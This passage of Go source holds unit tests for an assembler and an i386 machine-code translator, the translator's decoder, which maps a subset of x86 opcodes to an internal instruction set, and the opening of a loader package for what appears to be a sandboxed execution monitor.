		t.Errorf("imports = %v", img.Imports)
	}
	if img.Entry != "main" {
		t.Errorf("entry = %q", img.Entry)
	}
}

func TestAssembleNative(t *testing.T) {
	img := mustAsm(t, `
.text
gethostbyname:
    .native gethostbyname
system:
    .native system
`)
	if len(img.Natives) != 2 {
		t.Fatalf("natives = %v", img.Natives)
	}
	ins := textSection(t, img).Instrs
	if ins[0].Op != isa.NATIVE || ins[0].Native != 0 || ins[1].Native != 1 {
		t.Errorf("native instrs wrong: %v", ins)
	}
}

func TestAssembleComments(t *testing.T) {
	img := mustAsm(t, `
.text
    mov eax, 1   ; comment with , and [ inside
    nop          # hash comment
.data
s: .asciz "semi ; inside string"
`)
	if n := len(textSection(t, img).Instrs); n != 2 {
		t.Errorf("instrs = %d", n)
	}
	if got := string(img.Section(".data").Data); got != "semi ; inside string\x00" {
		t.Errorf("string with semicolon: %q", got)
	}
}

func TestAssembleLabelWithInstruction(t *testing.T) {
	img := mustAsm(t, `
.text
start: mov eax, 1
loop: dec eax
    jnz loop
`)
	if len(textSection(t, img).Instrs) != 3 {
		t.Error("label+instr on one line failed")
	}
	if sym := img.Symbols["loop"]; sym.Offset != 1 {
		t.Errorf("loop offset = %d", sym.Offset)
	}
}

func TestAssembleErrors(t *testing.T) {
	cases := []struct {
		name, src, wantErr string
	}{
		{"unknown mnemonic", ".text\n bogus eax", "unknown mnemonic"},
		{"bad operand count", ".text\n mov eax", "takes 2 operand"},
		{"duplicate label", ".text\na:\na:\n nop", "duplicate symbol"},
		{"two base regs", ".text\n mov eax, [ebx+ecx]", "two base registers"},
		{"data in text", ".text\n .asciz \"x\"", "in text section"},
		{"instr in data", ".data\n mov eax, 1", "instruction outside text"},
		{"unknown directive", ".frobnicate", "unknown directive"},
		{"undefined symbol", ".text\n jmp nowhere", "undefined symbol"},
		{"bad escape", `.data` + "\n" + `s: .asciz "\q"`, "unknown escape"},
		{"unterminated mem", ".text\n mov eax, [ebx", "unterminated"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Assemble("t", tc.src)
			if err == nil {
				t.Fatal("no error")
			}
			if !strings.Contains(err.Error(), tc.wantErr) {
				t.Errorf("error %q does not contain %q", err, tc.wantErr)
			}
		})
	}
}

func TestErrorsCarryLineNumbers(t *testing.T) {
	_, err := Assemble("t", ".text\n nop\n bogus eax\n")
	if err == nil || !strings.Contains(err.Error(), "line 3") {
		t.Errorf("error = %v, want line 3", err)
	}
}

func TestMustAssemblePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("MustAssemble did not panic")
		}
	}()
	MustAssemble("t", "bogus")
}

func TestAssembleAllMnemonics(t *testing.T) {
	src := `
.text
t:
    nop
    mov eax, 1
    movb [0x100], eax
    lea eax, [ebx+4]
    add eax, 1
    sub eax, 1
    and eax, 1
    or eax, 1
    xor eax, eax
    mul eax, 2
    div eax, 2
    mod eax, 2
    shl eax, 1
    shr eax, 1
    not eax
    neg eax
    inc eax
    dec eax
    cmp eax, 0
    test eax, eax
    push eax
    pop eax
    jmp t
    jz t
    jnz t
    jl t
    jle t
    jg t
    jge t
    call t
    ret
    int 0x80
    cpuid
    rdtsc
    hlt
`
	img := mustAsm(t, src)
	if n := len(textSection(t, img).Instrs); n != 35 {
		t.Errorf("instr count = %d, want 35", n)
	}
}

func TestAssembleEdgeCases(t *testing.T) {
	// Multiple labels on one line, label at section end, empty
	// program, negative memory displacement chains.
	img := mustAsm(t, `
.text
a: b: c:
    nop
end:
.data
d1: d2: .byte 1
tail:
`)
	for _, sym := range []string{"a", "b", "c", "end", "d1", "d2", "tail"} {
		if _, ok := img.Symbols[sym]; !ok {
			t.Errorf("symbol %q missing", sym)
		}
	}
	if img.Symbols["a"].Offset != 0 || img.Symbols["end"].Offset != 1 {
		t.Error("text label offsets wrong")
	}
	if img.Symbols["tail"].Offset != 1 {
		t.Errorf("tail offset = %d", img.Symbols["tail"].Offset)
	}
}

func TestAssembleMemMultiTerm(t *testing.T) {
	img := mustAsm(t, `
.text
    mov eax, [esi+buf+4]
    mov ebx, [buf+8-4]
.data
buf: .space 16
`)
	ins := textSection(t, img).Instrs
	if !ins[0].B.HasBase || ins[0].B.Reg != isa.ESI || ins[0].B.Imm != 4 {
		t.Errorf("[esi+buf+4] = %+v", ins[0].B)
	}
	if ins[1].B.HasBase || ins[1].B.Imm != 4 {
		t.Errorf("[buf+8-4] = %+v", ins[1].B)
	}
	if len(img.Relocs) != 2 {
		t.Errorf("relocs = %d", len(img.Relocs))
	}
}

func TestAssembleErrorRecoveryCollectsMultiple(t *testing.T) {
	_, err := Assemble("t", `
.text
 bogus1 eax
 bogus2 ebx
 bogus3 ecx
`)
	if err == nil {
		t.Fatal("no error")
	}
	el, ok := err.(ErrorList)
	if !ok {
		t.Fatalf("error type %T", err)
	}
	if len(el) != 3 {
		t.Errorf("errors = %d, want 3", len(el))
	}
}

func TestAssembleCharEscapes(t *testing.T) {
	img := mustAsm(t, `
.text
    mov eax, '\\'
    mov ebx, '\x41'
    mov ecx, '\0'
`)
	ins := textSection(t, img).Instrs
	if ins[0].B.Imm != '\\' || ins[1].B.Imm != 0x41 || ins[2].B.Imm != 0 {
		t.Errorf("char escapes: %v %v %v", ins[0].B.Imm, ins[1].B.Imm, ins[2].B.Imm)
	}
}

func TestAssembleRODataSection(t *testing.T) {
	img := mustAsm(t, `
.rodata
msg: .asciz "const"
.text
    mov eax, msg
`)
	sec := img.Section(".rodata")
	if sec == nil || sec.Kind != image.ROData {
		t.Fatal("rodata section missing")
	}
	if string(sec.Data) != "const\x00" {
		t.Errorf("rodata = %q", sec.Data)
	}
}
