package x86

import (
	"errors"
	"strings"
	"testing"

	"repro/internal/isa"
)

// tr translates code and fails the test on error.
func tr(t *testing.T, code ...byte) *Translation {
	t.Helper()
	out, err := Translate(code, 0x8049000)
	if err != nil {
		t.Fatalf("Translate: %v", err)
	}
	return out
}

func TestBasicForms(t *testing.T) {
	// mov eax, 5 ; mov [0x804a000], eax ; int 0x80 ; ret
	out := tr(t,
		0xB8, 5, 0, 0, 0,
		0xA3, 0x00, 0xA0, 0x04, 0x08,
		0xCD, 0x80,
		0xC3,
	)
	want := []isa.Instr{
		{Op: isa.MOV, A: isa.R(isa.EAX), B: isa.Imm(5)},
		{Op: isa.MOV, A: isa.Mem(0x0804A000), B: isa.R(isa.EAX)},
		{Op: isa.INT, A: isa.Imm(0x80)},
		{Op: isa.RET},
	}
	if len(out.Instrs) != len(want) {
		t.Fatalf("got %d instrs, want %d", len(out.Instrs), len(want))
	}
	for i := range want {
		if out.Instrs[i].Op != want[i].Op || out.Instrs[i].A != want[i].A || out.Instrs[i].B != want[i].B {
			t.Errorf("instr %d: got %+v, want %+v", i, out.Instrs[i], want[i])
		}
	}
	if len(out.Branches) != 0 {
		t.Errorf("no branches expected, got %v", out.Branches)
	}
}

func TestModRMAddressing(t *testing.T) {
	// mov ecx, [0x804a010]      (8B 0D disp32: mod=0 rm=5)
	// mov edx, [ebp-8]          (8B 55 F8: mod=1 disp8)
	// mov [ebx+0x100], eax      (89 83 disp32: mod=2)
	out := tr(t,
		0x8B, 0x0D, 0x10, 0xA0, 0x04, 0x08,
		0x8B, 0x55, 0xF8,
		0x89, 0x83, 0x00, 0x01, 0x00, 0x00,
	)
	want := []isa.Instr{
		{Op: isa.MOV, A: isa.R(isa.ECX), B: isa.Mem(0x0804A010)},
		{Op: isa.MOV, A: isa.R(isa.EDX), B: isa.MemBase(isa.EBP, 0xFFFFFFF8)},
		{Op: isa.MOV, A: isa.MemBase(isa.EBX, 0x100), B: isa.R(isa.EAX)},
	}
	for i := range want {
		if out.Instrs[i] != (isa.Instr{Op: want[i].Op, A: want[i].A, B: want[i].B}) {
			t.Errorf("instr %d: got %+v, want %+v", i, out.Instrs[i], want[i])
		}
	}
}

func TestBranchFixup(t *testing.T) {
	// 0: xor eax, eax   (31 C0)
	// 2: jz +3 -> 7     (74 03)
	// 4: mov ebx, eax   (89 C3) -- wait, 2 bytes; then jmp back
	// 6: eb f8 jmp -8 -> 0
	out := tr(t,
		0x31, 0xC0, // xor eax,eax      -> instr 0
		0x74, 0x04, // jz  -> offset 8  -> instr 3
		0x89, 0xC3, // mov ebx,eax      -> instr 2
		0xEB, 0xF8, // jmp -> offset 0  -> instr 0
		0x90, //       nop, offset 8    -> instr 4
	)
	if len(out.Branches) != 2 {
		t.Fatalf("want 2 branches, got %v", out.Branches)
	}
	jz := out.Instrs[1]
	if jz.Op != isa.JZ || jz.A != isa.Imm(4*isa.InstrSize) {
		t.Errorf("jz: got %+v, want target index 4", jz)
	}
	jmp := out.Instrs[3]
	if jmp.Op != isa.JMP || jmp.A != isa.Imm(0) {
		t.Errorf("jmp: got %+v, want target index 0", jmp)
	}
}

func TestBranchIntoInstruction(t *testing.T) {
	// jmp into the middle of the mov's immediate.
	_, err := Translate([]byte{
		0xEB, 0x01, // jmp -> offset 3 (inside next instr)
		0xB8, 1, 0, 0, 0, // mov eax, 1 at offset 2..6
	}, 0)
	var xe *Error
	if !errors.As(err, &xe) {
		t.Fatalf("want *Error, got %v", err)
	}
	if !strings.Contains(xe.Msg, "boundary") {
		t.Errorf("error does not cite instruction boundary: %v", xe)
	}
}

func TestMultiInstructionExpansion(t *testing.T) {
	// leave ; movzx eax, cl
	out := tr(t, 0xC9, 0x0F, 0xB6, 0xC1)
	want := []isa.Instr{
		{Op: isa.MOV, A: isa.R(isa.ESP), B: isa.R(isa.EBP)},
		{Op: isa.POP, A: isa.R(isa.EBP)},
		{Op: isa.MOVB, A: isa.R(isa.EAX), B: isa.R(isa.ECX)},
		{Op: isa.AND, A: isa.R(isa.EAX), B: isa.Imm(0xFF)},
	}
	for i := range want {
		if out.Instrs[i] != (isa.Instr{Op: want[i].Op, A: want[i].A, B: want[i].B}) {
			t.Errorf("instr %d: got %+v, want %+v", i, out.Instrs[i], want[i])
		}
	}
	// IndexOf: offset 0 -> 0, offset 1 -> 2, inside movzx -> none.
	if idx, ok := out.IndexOf(1); !ok || idx != 2 {
		t.Errorf("IndexOf(1) = %d,%v; want 2,true", idx, ok)
	}
	if _, ok := out.IndexOf(2); ok {
		t.Error("IndexOf(2) resolved inside an instruction")
	}
}

func TestOutOfSubset(t *testing.T) {
	cases := []struct {
		name string
		code []byte
		msg  string
	}{
		{"prefix-66", []byte{0x66, 0xB8, 1, 0}, "prefix"},
		{"rep", []byte{0xF3, 0xA4}, "prefix"},
		{"unsigned-jcc", []byte{0x72, 0x00}, "condition"},
		{"sib-scaled", []byte{0x8B, 0x04, 0x88}, "scaled-index"},
		{"high-byte-reg", []byte{0x88, 0xE0}, "ah/ch/dh/bh"},
		{"indirect-call", []byte{0xFF, 0xD0}, "indirect branch"},
		{"truncated-imm", []byte{0xB8, 1, 0}, "truncated"},
		{"unknown-op", []byte{0xD8}, "unsupported"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Translate(tc.code, 0)
			var xe *Error
			if !errors.As(err, &xe) {
				t.Fatalf("want *Error, got %v", err)
			}
			if !strings.Contains(xe.Msg, tc.msg) {
				t.Errorf("error %q does not mention %q", xe.Msg, tc.msg)
			}
		})
	}
}

func TestErrorCitesOffset(t *testing.T) {
	// Valid instruction, then garbage at offset 5.
	_, err := Translate([]byte{0xB8, 1, 0, 0, 0, 0xD8}, 0)
	var xe *Error
	if !errors.As(err, &xe) {
		t.Fatalf("want *Error, got %v", err)
	}
	if xe.Off != 5 {
		t.Errorf("error offset %#x, want 0x5", xe.Off)
	}
}
