// Package x86 translates a practical subset of i386 machine code —
// the mov/alu/push/pop/jcc/call/ret/int-0x80 repertoire that
// `as --32` + `ld -m elf_i386` emit for hand-written system programs —
// into the fixed-width internal ISA of internal/isa. The ELF frontend
// (internal/image) feeds it executable section bytes; the result runs
// under the full three-tier monitor exactly like assembler-produced
// code.
//
// Translation is static and total over the accepted subset: every
// byte of the section must decode, and every direct branch target
// must land on an instruction boundary. Anything outside the subset
// (prefixes, 16-bit operands, unsigned conditions, scaled-index
// addressing, indirect branches through link-time code addresses) is
// a typed *Error naming the offset and the offending byte — malformed
// or adversarial text fails the load cleanly, never at run time.
//
// Because one i386 instruction may expand to several internal
// instructions, translated code cannot keep its link-time addresses:
// direct branch targets are rewritten to internal instruction
// indices (scaled by isa.InstrSize) and reported in
// Translation.Branches so the loader can rebase them, while data
// references keep their absolute link-time addresses (the frontend
// maps data sections at their ELF virtual addresses).
package x86

import (
	"fmt"

	"repro/internal/isa"
)

// Error is a decode or translation failure at a code offset.
type Error struct {
	Off int    // byte offset into the translated section
	Msg string // what was unsupported or malformed
}

func (e *Error) Error() string {
	return fmt.Sprintf("x86: offset %#x: %s", e.Off, e.Msg)
}

// Translation is the result of translating one executable section.
type Translation struct {
	// Instrs is the internal-ISA program; instruction i will sit at
	// sectionBase + i*isa.InstrSize once mapped.
	Instrs []isa.Instr
	// InstrIndex maps each byte offset of the original section to the
	// index (into Instrs) of the first internal instruction translated
	// from the i386 instruction starting there; -1 marks bytes inside
	// a multi-byte instruction.
	InstrIndex []int32
	// Branches lists indices into Instrs whose A operand holds a
	// direct branch target expressed as an instruction-index offset
	// (idx*isa.InstrSize) that the loader must rebase by the mapped
	// section address.
	Branches []int
}

// IndexOf resolves a byte offset of the original section to its
// internal instruction index; ok is false for offsets out of range or
// inside an instruction.
func (t *Translation) IndexOf(byteOff uint32) (int, bool) {
	if byteOff >= uint32(len(t.InstrIndex)) {
		return 0, false
	}
	idx := t.InstrIndex[byteOff]
	if idx < 0 {
		return 0, false
	}
	return int(idx), true
}

// Translate decodes the i386 machine code of one executable section
// linked at vaddr and produces its internal-ISA form.
func Translate(code []byte, vaddr uint32) (*Translation, error) {
	t := &Translation{InstrIndex: make([]int32, len(code))}
	for i := range t.InstrIndex {
		t.InstrIndex[i] = -1
	}
	// Pending direct branches: internal instruction index -> target
	// expressed as a byte offset into this section (the decoder works
	// in section offsets), resolved after the full decode pass.
	type pending struct {
		src    int // byte offset of the branch instruction
		instr  int
		target uint32
	}
	var branches []pending

	d := &decoder{code: code}
	for d.pos < len(code) {
		d.off = d.pos
		start := len(t.Instrs)
		instrs, target, err := d.decodeOne()
		if err != nil {
			return nil, err
		}
		t.InstrIndex[d.off] = int32(start)
		t.Instrs = append(t.Instrs, instrs...)
		if target != nil {
			// The branch is always the last internal instruction of
			// its group.
			branches = append(branches, pending{src: d.off, instr: len(t.Instrs) - 1, target: *target})
		}
	}
	for _, b := range branches {
		idx, ok := t.IndexOf(b.target)
		if !ok {
			return nil, &Error{Off: b.src, Msg: fmt.Sprintf(
				"branch to %#x: not an instruction boundary of this section", vaddr+b.target)}
		}
		t.Instrs[b.instr].A = isa.Imm(uint32(idx) * isa.InstrSize)
		t.Branches = append(t.Branches, b.instr)
	}
	return t, nil
}

// decoder walks the section byte stream.
type decoder struct {
	code []byte
	off  int // start of the instruction being decoded
	pos  int // read cursor
}

func (d *decoder) errf(format string, args ...any) error {
	return &Error{Off: d.off, Msg: fmt.Sprintf(format, args...)}
}

func (d *decoder) u8() (byte, error) {
	if d.pos >= len(d.code) {
		return 0, d.errf("truncated instruction")
	}
	b := d.code[d.pos]
	d.pos++
	return b, nil
}

func (d *decoder) u32() (uint32, error) {
	if d.pos+4 > len(d.code) {
		return 0, d.errf("truncated 32-bit operand")
	}
	v := uint32(d.code[d.pos]) | uint32(d.code[d.pos+1])<<8 |
		uint32(d.code[d.pos+2])<<16 | uint32(d.code[d.pos+3])<<24
	d.pos += 4
	return v, nil
}

// s8imm reads an 8-bit immediate sign-extended to 32 bits.
func (d *decoder) s8imm() (uint32, error) {
	b, err := d.u8()
	return uint32(int32(int8(b))), err
}

// modRM decodes a ModR/M byte (plus SIB and displacement) into the
// register field and the r/m operand. Scaled-index addressing is
// outside the subset.
func (d *decoder) modRM() (reg int, rm isa.Operand, err error) {
	b, err := d.u8()
	if err != nil {
		return 0, rm, err
	}
	mod := b >> 6
	reg = int(b>>3) & 7
	rmBits := b & 7
	if mod == 3 {
		return reg, isa.R(isa.Reg(rmBits)), nil
	}
	base := isa.Reg(rmBits)
	hasBase := true
	if rmBits == 4 { // SIB follows
		sib, err := d.u8()
		if err != nil {
			return 0, rm, err
		}
		if idx := (sib >> 3) & 7; idx != 4 {
			return 0, rm, d.errf("scaled-index addressing (SIB index %d) unsupported", idx)
		}
		base = isa.Reg(sib & 7)
		if base == isa.EBP && mod == 0 { // [disp32], no base
			hasBase = false
		}
	} else if rmBits == 5 && mod == 0 { // [disp32]
		hasBase = false
	}
	var disp uint32
	switch {
	case mod == 1:
		if disp, err = d.s8imm(); err != nil {
			return 0, rm, err
		}
	case mod == 2 || !hasBase:
		if disp, err = d.u32(); err != nil {
			return 0, rm, err
		}
	}
	if hasBase {
		return reg, isa.MemBase(base, disp), nil
	}
	return reg, isa.Mem(disp), nil
}

// relTarget reads a relative displacement (8- or 32-bit) and returns
// the target as a byte offset into the section: next-instruction
// offset + rel (arithmetic wraps, matching the hardware).
func (d *decoder) relTarget(wide bool) (uint32, error) {
	var rel uint32
	var err error
	if wide {
		rel, err = d.u32()
	} else {
		rel, err = d.s8imm()
	}
	if err != nil {
		return 0, err
	}
	return uint32(d.pos) + rel, nil
}

// byteReg validates an 8-bit register encoding: only AL/CL/DL/BL
// (the low bytes of EAX..EBX, which MOVB models) are in the subset;
// AH/CH/DH/BH are not.
func (d *decoder) byteReg(n int) (isa.Operand, error) {
	if n >= 4 {
		return isa.Operand{}, d.errf("high 8-bit register encoding %d (ah/ch/dh/bh) unsupported", n)
	}
	return isa.R(isa.Reg(n)), nil
}

// one wraps a single translated instruction.
func one(op isa.Op, a, b isa.Operand) []isa.Instr {
	return []isa.Instr{{Op: op, A: a, B: b}}
}

// jccOps maps the supported i386 condition nibble to the internal
// conditional jump. Only the signed conditions exist internally; the
// unsigned ones (ja/jb/...) and the flag tests (jo/js/jp/...) are
// outside the subset.
var jccOps = map[byte]isa.Op{
	0x4: isa.JZ,  // je
	0x5: isa.JNZ, // jne
	0xC: isa.JL,  // jl
	0xD: isa.JGE, // jge
	0xE: isa.JLE, // jle
	0xF: isa.JG,  // jg
}

// grp1Ops maps the 0x81/0x83 group-1 register-field encoding to the
// internal ALU op (adc/sbb, fields 2 and 3, are outside the subset).
var grp1Ops = map[int]isa.Op{
	0: isa.ADD, 1: isa.OR, 4: isa.AND, 5: isa.SUB, 6: isa.XOR, 7: isa.CMP,
}

// decodeOne decodes the instruction at d.off, returning its internal
// translation and, for direct branches, the i386 target address
// (section-relative origin; see relTarget).
func (d *decoder) decodeOne() ([]isa.Instr, *uint32, error) {
	op, err := d.u8()
	if err != nil {
		return nil, nil, err
	}
	switch {
	case op == 0x0F:
		return d.decodeTwoByte()

	// ALU r/m32,r32 | r32,r/m32 | eax,imm32 blocks.
	case op == 0x01 || op == 0x03 || op == 0x05:
		return d.alu(isa.ADD, op&7)
	case op == 0x09 || op == 0x0B || op == 0x0D:
		return d.alu(isa.OR, op&7)
	case op == 0x21 || op == 0x23 || op == 0x25:
		return d.alu(isa.AND, op&7)
	case op == 0x29 || op == 0x2B || op == 0x2D:
		return d.alu(isa.SUB, op&7)
	case op == 0x31 || op == 0x33 || op == 0x35:
		return d.alu(isa.XOR, op&7)
	case op == 0x39 || op == 0x3B || op == 0x3D:
		return d.alu(isa.CMP, op&7)

	case op >= 0x40 && op <= 0x47:
		return one(isa.INC, isa.R(isa.Reg(op-0x40)), isa.Operand{}), nil, nil
	case op >= 0x48 && op <= 0x4F:
		return one(isa.DEC, isa.R(isa.Reg(op-0x48)), isa.Operand{}), nil, nil
	case op >= 0x50 && op <= 0x57:
		return one(isa.PUSH, isa.R(isa.Reg(op-0x50)), isa.Operand{}), nil, nil
	case op >= 0x58 && op <= 0x5F:
		return one(isa.POP, isa.R(isa.Reg(op-0x58)), isa.Operand{}), nil, nil

	case op == 0x68: // push imm32
		v, err := d.u32()
		if err != nil {
			return nil, nil, err
		}
		return one(isa.PUSH, isa.Imm(v), isa.Operand{}), nil, nil
	case op == 0x6A: // push imm8 (sign-extended)
		v, err := d.s8imm()
		if err != nil {
			return nil, nil, err
		}
		return one(isa.PUSH, isa.Imm(v), isa.Operand{}), nil, nil

	case op >= 0x70 && op <= 0x7F: // jcc rel8
		jop, ok := jccOps[op&0xF]
		if !ok {
			return nil, nil, d.errf("condition %#x unsupported (unsigned/flag conditions outside subset)", op&0xF)
		}
		target, err := d.relTarget(false)
		if err != nil {
			return nil, nil, err
		}
		return one(jop, isa.Imm(0), isa.Operand{}), &target, nil

	case op == 0x81 || op == 0x83: // grp1 r/m32, imm
		reg, rm, err := d.modRM()
		if err != nil {
			return nil, nil, err
		}
		aop, ok := grp1Ops[reg]
		if !ok {
			return nil, nil, d.errf("group-1 op /%d (adc/sbb) unsupported", reg)
		}
		var v uint32
		if op == 0x81 {
			v, err = d.u32()
		} else {
			v, err = d.s8imm()
		}
		if err != nil {
			return nil, nil, err
		}
		return one(aop, rm, isa.Imm(v)), nil, nil

	case op == 0x85: // test r/m32, r32
		reg, rm, err := d.modRM()
		if err != nil {
			return nil, nil, err
		}
		return one(isa.TEST, rm, isa.R(isa.Reg(reg))), nil, nil

	case op == 0x88 || op == 0x8A: // mov r/m8, r8 | r8, r/m8
		reg, rm, err := d.modRM()
		if err != nil {
			return nil, nil, err
		}
		rop, err := d.byteReg(reg)
		if err != nil {
			return nil, nil, err
		}
		if rm.Kind == isa.RegOperand {
			if rm, err = d.byteReg(int(rm.Reg)); err != nil {
				return nil, nil, err
			}
		}
		if op == 0x88 {
			return one(isa.MOVB, rm, rop), nil, nil
		}
		return one(isa.MOVB, rop, rm), nil, nil
	case op == 0x89: // mov r/m32, r32
		reg, rm, err := d.modRM()
		if err != nil {
			return nil, nil, err
		}
		return one(isa.MOV, rm, isa.R(isa.Reg(reg))), nil, nil
	case op == 0x8B: // mov r32, r/m32
		reg, rm, err := d.modRM()
		if err != nil {
			return nil, nil, err
		}
		return one(isa.MOV, isa.R(isa.Reg(reg)), rm), nil, nil

	case op == 0x8D: // lea r32, m
		reg, rm, err := d.modRM()
		if err != nil {
			return nil, nil, err
		}
		if rm.Kind != isa.MemOperand {
			return nil, nil, d.errf("lea with register source")
		}
		return one(isa.LEA, isa.R(isa.Reg(reg)), rm), nil, nil

	case op == 0x90:
		return one(isa.NOP, isa.Operand{}, isa.Operand{}), nil, nil

	case op == 0xA1: // mov eax, moffs32
		a, err := d.u32()
		if err != nil {
			return nil, nil, err
		}
		return one(isa.MOV, isa.R(isa.EAX), isa.Mem(a)), nil, nil
	case op == 0xA3: // mov moffs32, eax
		a, err := d.u32()
		if err != nil {
			return nil, nil, err
		}
		return one(isa.MOV, isa.Mem(a), isa.R(isa.EAX)), nil, nil

	case op >= 0xB8 && op <= 0xBF: // mov r32, imm32
		v, err := d.u32()
		if err != nil {
			return nil, nil, err
		}
		return one(isa.MOV, isa.R(isa.Reg(op-0xB8)), isa.Imm(v)), nil, nil
	case op >= 0xB0 && op <= 0xB3: // mov r8, imm8 (al/cl/dl/bl)
		v, err := d.u8()
		if err != nil {
			return nil, nil, err
		}
		return one(isa.MOVB, isa.R(isa.Reg(op-0xB0)), isa.Imm(uint32(v))), nil, nil

	case op == 0xC1 || op == 0xD1: // grp2 shifts
		reg, rm, err := d.modRM()
		if err != nil {
			return nil, nil, err
		}
		var sop isa.Op
		switch reg {
		case 4:
			sop = isa.SHL
		case 5:
			sop = isa.SHR
		default:
			return nil, nil, d.errf("shift-group op /%d unsupported", reg)
		}
		count := uint32(1)
		if op == 0xC1 {
			b, err := d.u8()
			if err != nil {
				return nil, nil, err
			}
			count = uint32(b)
		}
		return one(sop, rm, isa.Imm(count)), nil, nil

	case op == 0xC3:
		return one(isa.RET, isa.Operand{}, isa.Operand{}), nil, nil

	case op == 0xC6 || op == 0xC7: // mov r/m, imm
		reg, rm, err := d.modRM()
		if err != nil {
			return nil, nil, err
		}
		if reg != 0 {
			return nil, nil, d.errf("mov-immediate group op /%d unsupported", reg)
		}
		if op == 0xC6 {
			b, err := d.u8()
			if err != nil {
				return nil, nil, err
			}
			if rm.Kind == isa.RegOperand {
				if rm, err = d.byteReg(int(rm.Reg)); err != nil {
					return nil, nil, err
				}
			}
			return one(isa.MOVB, rm, isa.Imm(uint32(b))), nil, nil
		}
		v, err := d.u32()
		if err != nil {
			return nil, nil, err
		}
		return one(isa.MOV, rm, isa.Imm(v)), nil, nil

	case op == 0xC9: // leave
		return []isa.Instr{
			{Op: isa.MOV, A: isa.R(isa.ESP), B: isa.R(isa.EBP)},
			{Op: isa.POP, A: isa.R(isa.EBP)},
		}, nil, nil

	case op == 0xCD: // int imm8
		v, err := d.u8()
		if err != nil {
			return nil, nil, err
		}
		return one(isa.INT, isa.Imm(uint32(v)), isa.Operand{}), nil, nil

	case op == 0xE8: // call rel32
		target, err := d.relTarget(true)
		if err != nil {
			return nil, nil, err
		}
		return one(isa.CALL, isa.Imm(0), isa.Operand{}), &target, nil
	case op == 0xE9: // jmp rel32
		target, err := d.relTarget(true)
		if err != nil {
			return nil, nil, err
		}
		return one(isa.JMP, isa.Imm(0), isa.Operand{}), &target, nil
	case op == 0xEB: // jmp rel8
		target, err := d.relTarget(false)
		if err != nil {
			return nil, nil, err
		}
		return one(isa.JMP, isa.Imm(0), isa.Operand{}), &target, nil

	case op == 0xF4:
		return one(isa.HLT, isa.Operand{}, isa.Operand{}), nil, nil

	case op == 0xF7: // grp3
		reg, rm, err := d.modRM()
		if err != nil {
			return nil, nil, err
		}
		switch reg {
		case 2:
			return one(isa.NOT, rm, isa.Operand{}), nil, nil
		case 3:
			return one(isa.NEG, rm, isa.Operand{}), nil, nil
		}
		return nil, nil, d.errf("group-3 op /%d (test/mul/div forms) unsupported", reg)

	case op == 0xFF: // grp5
		reg, rm, err := d.modRM()
		if err != nil {
			return nil, nil, err
		}
		switch reg {
		case 0:
			return one(isa.INC, rm, isa.Operand{}), nil, nil
		case 1:
			return one(isa.DEC, rm, isa.Operand{}), nil, nil
		case 6:
			return one(isa.PUSH, rm, isa.Operand{}), nil, nil
		case 2, 4:
			// An indirect branch target is a link-time code address
			// computed at run time; translated code lives at different
			// addresses, so the jump cannot be rebased statically.
			return nil, nil, d.errf("indirect branch through r/m operand unsupported (translated code is relocated)")
		}
		return nil, nil, d.errf("group-5 op /%d unsupported", reg)

	case op == 0x66 || op == 0x67 || op == 0xF0 || op == 0xF2 || op == 0xF3 ||
		op == 0x2E || op == 0x36 || op == 0x3E || op == 0x26 || op == 0x64 || op == 0x65:
		return nil, nil, d.errf("prefix %#02x unsupported (16-bit/segment/rep forms outside subset)", op)
	}
	return nil, nil, d.errf("opcode %#02x unsupported", op)
}

// alu decodes one of the three encodings every classic ALU op shares:
// low3 == 1 (r/m32,r32), 3 (r32,r/m32), 5 (eax,imm32).
func (d *decoder) alu(aop isa.Op, low3 byte) ([]isa.Instr, *uint32, error) {
	switch low3 {
	case 1:
		reg, rm, err := d.modRM()
		if err != nil {
			return nil, nil, err
		}
		return one(aop, rm, isa.R(isa.Reg(reg))), nil, nil
	case 3:
		reg, rm, err := d.modRM()
		if err != nil {
			return nil, nil, err
		}
		return one(aop, isa.R(isa.Reg(reg)), rm), nil, nil
	default: // 5
		v, err := d.u32()
		if err != nil {
			return nil, nil, err
		}
		return one(aop, isa.R(isa.EAX), isa.Imm(v)), nil, nil
	}
}

// decodeTwoByte handles the 0x0F escape opcodes in the subset.
func (d *decoder) decodeTwoByte() ([]isa.Instr, *uint32, error) {
	op, err := d.u8()
	if err != nil {
		return nil, nil, err
	}
	switch {
	case op == 0x1F: // multi-byte nop (nop r/m32)
		if _, _, err := d.modRM(); err != nil {
			return nil, nil, err
		}
		return one(isa.NOP, isa.Operand{}, isa.Operand{}), nil, nil
	case op == 0x31:
		return one(isa.RDTSC, isa.Operand{}, isa.Operand{}), nil, nil
	case op == 0xA2:
		return one(isa.CPUID, isa.Operand{}, isa.Operand{}), nil, nil
	case op >= 0x80 && op <= 0x8F: // jcc rel32
		jop, ok := jccOps[op&0xF]
		if !ok {
			return nil, nil, d.errf("condition %#x unsupported (unsigned/flag conditions outside subset)", op&0xF)
		}
		target, err := d.relTarget(true)
		if err != nil {
			return nil, nil, err
		}
		return one(jop, isa.Imm(0), isa.Operand{}), &target, nil
	case op == 0xAF: // imul r32, r/m32
		reg, rm, err := d.modRM()
		if err != nil {
			return nil, nil, err
		}
		return one(isa.MUL, isa.R(isa.Reg(reg)), rm), nil, nil
	case op == 0xB6: // movzx r32, r/m8
		reg, rm, err := d.modRM()
		if err != nil {
			return nil, nil, err
		}
		if rm.Kind == isa.RegOperand {
			if rm, err = d.byteReg(int(rm.Reg)); err != nil {
				return nil, nil, err
			}
		}
		// MOVB writes the low byte preserving the rest, so zero-extend
		// by masking afterwards (the mask also works when rm's base
		// register is the destination). Flags diverge from movzx,
		// which preserves them; the subset tolerates that.
		dst := isa.R(isa.Reg(reg))
		return []isa.Instr{
			{Op: isa.MOVB, A: dst, B: rm},
			{Op: isa.AND, A: dst, B: isa.Imm(0xFF)},
		}, nil, nil
	}
	return nil, nil, d.errf("two-byte opcode 0f %#02x unsupported", op)
}
