package loader

import (
	"repro/internal/isa"

	// Register the text frontend alongside the ELF frontend (which
	// internal/image registers itself), so Open's auto-detection
	// always sees both.
	_ "repro/internal/asm"

	"repro/internal/image"
)

// Open is the format-agnostic load entry point: it sniffs data's
// format against the registered frontends (ELF magic, then the text
// heuristic), decodes it into an image named name, and maps the
// result exactly as Load would. Decode failures wrap image.ErrBadImage
// for structural problems (malformed ELF, out-of-subset machine code,
// unrecognizable bytes); text-frontend compile diagnostics come back
// unwrapped.
//
